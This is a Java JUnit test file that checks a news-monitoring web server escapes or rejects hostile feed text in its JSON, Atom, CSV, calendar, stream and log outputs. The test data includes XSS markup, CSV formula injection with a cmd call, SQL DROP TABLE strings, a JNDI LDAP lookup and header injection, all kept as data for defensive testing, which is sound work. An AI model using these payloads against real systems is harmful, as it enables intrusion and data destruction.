// SPDX-License-Identifier: Apache-2.0
package org.pointwatch.desk;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.io.StringReader;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.InstantSource;
import java.util.Arrays;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import net.fortuna.ical4j.data.CalendarBuilder;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.pointwatch.desk.view.View;
import org.pointwatch.testkit.PostgresExtension;
import org.pointwatch.wire.Json;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.pointwatch.desk.view.Samples.NOON;
import static org.pointwatch.desk.view.Samples.coverage;
import static org.pointwatch.desk.view.Samples.finding;

/** What a feed may bring, through every format that leaves the desk; the numbers are those of the catalogue of hostile cases. */
@Tag("broker")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
final class HostileTextTest {
    private static final String MARKUP =
            "</title><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"
                    + "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(4)&gt;\">";
    private static final String XML = "]]> --> <?xml version='1.0'?> \uFFFE \u0001 &amp; &#0;";
    private static final String ICS =
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil;a,b\\c " + "é".repeat(33) + "\uD83D\uDE00".repeat(20);
    private static final List<String> FORMULAS =
            List.of("=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", " =1");
    private static final List<String> LINKS = List.of(
            "javascript:alert(1)",
            "data:text/html,x",
            "vbscript:x",
            "java\tscript:alert(1)",
            "https://u@evil.example/",
            "//evil.example/x");

    @RegisterExtension
    static final PostgresExtension POSTGRES = new PostgresExtension();

    private final SimpleMeterRegistry metrics = new SimpleMeterRegistry();
    private final View view = new View(metrics);
    private final HttpClient http = HttpClient.newHttpClient();
    private WebServer web;

    @BeforeAll
    void start() throws Exception {
        try (var connection = POSTGRES.connect()) {
            Migrations.apply(connection);
            var world = ApiWorld.on(connection);
            var n = 0;
            for (var text : List.of(MARKUP, XML, ICS, "\n\ndata: {}\n\n", "\u2028</script>\u2029")) {
                article(world, "m" + n++, text.replace("\0", ""), "one.example", "https://one.example/x");
            }
            for (var formula : FORMULAS) {
                article(world, "f" + n++, formula, formula, "https://one.example/x");
            }
            for (var link : LINKS) {
                article(world, "l" + n++, "Link", "one.example", link);
            }
            world.run(
                    "INSERT INTO deadlines VALUES (?, '2025-11-30', ?, 'day', 'set', '[]', '[]', ?, NULL, 1, ?, ?, ?, 'm0',"
                            + " '[{\"at\":\"2025-11-24T12:00:00Z\",\"status\":\"set\",\"due\":\"2025-11-30\",\"article\":\"m0\"}]', NULL, 0, 0)",
                    ICS.substring(0, 40) + MARKUP.substring(0, 100),
                    Instant.parse("2025-12-01T00:00:00Z"),
                    ICS,
                    NOON,
                    NOON,
                    ICS);
            world.run(
                    "INSERT INTO alerts VALUES ('t', 'plan', 'surge', 'point:army-cap', ?, ?, ?::jsonb, 'm0', NULL, 0, 0)",
                    NOON,
                    MARKUP + XML,
                    Json.MAPPER.writeValueAsString(List.of(XML, ICS)));
            world.advance();
        }
        var database = new DeskDatabase(POSTGRES.jdbcUrl(), POSTGRES.user(), POSTGRES.password());
        web = new WebServer(
                DeskSettings.onLoopback(0).withDatabase(database).withAddress("https://desk.example"),
                view,
                new Progress(InstantSource.fixed(NOON)),
                metrics,
                NOON);
        web.start();
    }

    private static void article(ApiWorld world, String id, String text, String outlet, String url) throws Exception {
        world.run(
                """
                INSERT INTO findings (article, revision, dossier, dossier_version, outlet, title, url, language, event_time,
                    event_time_source, deadlines, dates, figures, quotes, src_partition, src_offset)
                VALUES (?, 'r', 'plan', '1', ?, ?, ?, 'en', ?, 'published', '[]', '[]', '[]', '[]', 0, 0)
                """,
                id,
                outlet,
                text,
                url,
                NOON);
        world.run("INSERT INTO stories VALUES (?, ?, 'original', NULL, NULL, 0, NULL, 0, 0)", id, id);
        world.run(
                """
                INSERT INTO mentions (article, target_kind, target_id, n, outlet, event_time, sentence_no, in_title, sentence,
                    matched, match_start, match_end, rule)
                VALUES (?, 'point', 'army-cap', 0, ?, ?, 0, false, ?, ?, 0, 1, 'r')
                """,
                id,
                outlet,
                NOON,
                text,
                text);
    }

    @AfterAll
    void stop() {
        web.close();
    }

    private HttpResponse<String> get(String path) throws Exception {
        return http.send(
                HttpRequest.newBuilder(URI.create(web.address() + path)).build(), HttpResponse.BodyHandlers.ofString());
    }

    private JsonNode json(String path) throws Exception {
        var answer = get(path);
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(200);
        return Json.MAPPER.readTree(answer.body());
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    @Test
    void case82MarkupInATitleIsTextInEveryFormat() throws Exception {
        var answer = get("api/v1/evidence?limit=500");
        assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/json; charset=utf-8");
        assertThat(answer.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(answer.headers().firstValue("Content-Security-Policy").orElseThrow())
                .startsWith("default-src 'none'");
        assertThat(Json.MAPPER
                        .readTree(answer.body())
                        .path("rows")
                        .valueStream()
                        .map(r -> r.path("title").asString()))
                .contains(MARKUP);
        assertThat(get("alerts.atom").body()).doesNotContain("<script", "<img", "<svg");
        var brief = get("api/v1/brief?format=md&at=2025-11-24T13:00:00Z").body();
        assertThat(brief).doesNotContain("<script", "<img", "<svg").contains("&lt;script&gt;");
    }

    @Test
    void case83ALinkThatIsNoWebAddressIsNone() throws Exception {
        for (var path : List.of("api/v1/evidence?limit=500", "api/v1/stories?limit=500&target=all")) {
            var urls = json(path)
                    .path("rows")
                    .valueStream()
                    .filter(r -> r.path("title").asString().equals("Link"))
                    .map(r -> r.path("url").isNull());
            assertThat(urls).hasSize(LINKS.size()).containsOnly(true);
        }
        assertThat(get("api/v1/evidence?limit=500&format=csv").body()).doesNotContain("script:", "data:text");
        assertThat(json("api/v1/stories/l13").at("/lineage/url").isNull()).isTrue();
        assertThat(json("api/v1/articles/l13").path("url").isNull()).isTrue();
    }

    @Test
    void case84AtomIsWellFormedWhateverItSays() throws Exception {
        var factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        var bytes = get("alerts.atom").body().getBytes(StandardCharsets.UTF_8);
        var document = factory.newDocumentBuilder().parse(new ByteArrayInputStream(bytes));
        assertThat(document.getElementsByTagName("entry").getLength()).isEqualTo(1);
    }

    @Test
    void case85ADeadlineIsOneEventEscapedAndFolded() throws Exception {
        var text = get("deadlines.ics").body();
        assertThat(new CalendarBuilder().build(new StringReader(text)).getComponents("VEVENT"))
                .hasSize(1);
        assertThat(Arrays.stream(text.split("\r\n")))
                .allMatch(line -> line.getBytes(StandardCharsets.UTF_8).length <= 75);
        assertThat(text).contains("evil\\;a\\,b\\\\c");
        assertThat(text.replace("\r\n ", "").lines().filter(line -> line.startsWith("URL")))
                .singleElement()
                .asString()
                .matches("URL:https://desk\\.example/deadlines\\?status=all#deadline-x%20END[A-Za-z0-9%._~-]+");
    }

    @Test
    void case86NoCellOfACsvIsAFormula() throws Exception {
        var csv = get("api/v1/evidence?limit=500&format=csv").body();
        for (var formula : FORMULAS) {
            assertThat(csv).contains("\"'" + formula.replace("\"", "\"\"") + "\"");
        }
        assertThat(csv).doesNotContainPattern("(^|,)\"?[=+@＝\t]");
        assertThat(get("api/v1/articles/f5?format=csv").body())
                .contains("'" + FORMULAS.get(0).replace("\"", "\"\""))
                .doesNotContainPattern("(^|,)\"?[=+@＝\t]");
    }

    @Test
    void case87AnEventOfTheStreamIsOneLine() throws Exception {
        var title = "\n\ndata: {}\n\nevent: snapshot";
        view.finding("s", finding("s", NOON, title, title, List.of("army-cap"), List.of()));
        view.coverage("point:army-cap@" + NOON, coverage("point:army-cap", NOON, 1, 0, 0));
        try (var socket = new Socket("127.0.0.1", web.address().getPort())) {
            socket.getOutputStream()
                    .write("GET /api/stream HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            socket.setSoTimeout(10_000);
            var in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
            var line = in.readLine();
            while (!line.startsWith("data: ")) {
                line = in.readLine();
            }
            var data = Json.MAPPER.readTree(line.substring("data: ".length()));
            assertThat(data.at("/targets/0/last/outlet").asString()).isEqualTo(title);
        }
    }

    @Test
    void case88LineSeparatorsAndScriptEndsAreJsonToo() throws Exception {
        var rows = json("api/v1/evidence?limit=500").path("rows");
        assertThat(rows.valueStream().map(r -> r.path("sentence").asString())).contains("\u2028</script>\u2029");
        var lines = get("api/v1/evidence?limit=500&format=jsonl").body().split("\n");
        assertThat(lines).hasSize(rows.size()).allSatisfy(line -> assertThat(
                        Json.MAPPER.readTree(line).isObject())
                .isTrue());
    }

    @Test
    void case89ALogLineCannotBeForged() throws Exception {
        var seen = new ListAppender<ILoggingEvent>();
        seen.start();
        var logger = (Logger) LoggerFactory.getLogger("org.pointwatch.desk");
        logger.addAppender(seen);
        try {
            var body = Json.MAPPER.writeValueAsString(
                    java.util.Map.of("by", "${jndi:ldap://x/a} %n {}", "note", "\u2028 \u202e ok"));
            var request = HttpRequest.newBuilder(URI.create(web.address() + "api/v1/alerts/t/acknowledge"))
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(body));
            assertThat(http.send(request.build(), HttpResponse.BodyHandlers.ofString())
                            .statusCode())
                    .isEqualTo(200);
            var forged = body.replace("%n", "\\nadmin");
            var refused = HttpRequest.newBuilder(URI.create(web.address() + "api/v1/alerts/t/acknowledge"))
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(forged));
            assertThat(http.send(refused.build(), HttpResponse.BodyHandlers.ofString())
                            .statusCode())
                    .isEqualTo(400);
        } finally {
            logger.detachAppender(seen);
        }
        assertThat(seen.list).hasSize(1).allSatisfy(event -> {
            assertThat(event.getFormattedMessage()).contains("acknowledged t by \"${jndi:ldap://x/a} %n {}\"");
            assertThat(event.getFormattedMessage().chars())
                    .noneMatch(c -> Character.isISOControl(c) || c == 0x2028 || c == 0x202e);
        });
    }

    @ParameterizedTest
    @ValueSource(strings = {"q=", "outlet=", "group=", "target=point:", "target=all/group:", "target=pair:a|"})
    void case90WhatLooksLikeSqlIsAValue(String parameter) throws Exception {
        for (var text : List.of(
                "'; DROP TABLE findings; --",
                "\\'; DROP TABLE findings",
                "%' OR 1=1 --",
                "$1",
                "?",
                "a & b | !c:*",
                "\"")) {
            var name = parameter.substring(0, parameter.indexOf('='));
            var value = parameter.substring(parameter.indexOf('=') + 1) + text;
            var answer = get("api/v1/evidence?" + name + "=" + encoded(value));
            assertThat(answer.statusCode()).as(value).isIn(200, 400);
        }
        assertThat(json("api/v1/evidence?limit=500").path("rows").size()).isEqualTo(5 + FORMULAS.size() + LINKS.size());
        for (var id : List.of("x".repeat(2_705), encoded("'; DROP TABLE stories; --"), "%00")) {
            assertThat(get("api/v1/stories/" + id).statusCode()).isIn(404, 400);
            assertThat(get("api/v1/articles/" + id).statusCode()).isIn(404, 400);
        }
    }

    @Test
    void case91WhatAFeedSaysIsNeverALabel() throws Exception {
        for (var path : List.of(
                "api/v1/stories/evil%0A",
                "evil-path", "api/v1/evil", "api/v1/evidence?q=evil", "api/v1/alerts/evil/mute")) {
            get(path);
        }
        assertThat(metrics.getMeters())
                .allSatisfy(meter ->
                        assertThat(meter.getId().getTags().toString()).doesNotContain("evil", "script", "one.example"));
    }

    @Test
    void case92AFileIsNamedByUsAlone() throws Exception {
        var answer = get("api/v1/evidence?format=csv&outlet=" + encoded("../../x\r\nSet-Cookie: a=b"));
        assertThat(answer.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"getEvidence.csv\"");
        assertThat(answer.headers().firstValue("Set-Cookie")).isEmpty();
    }
}
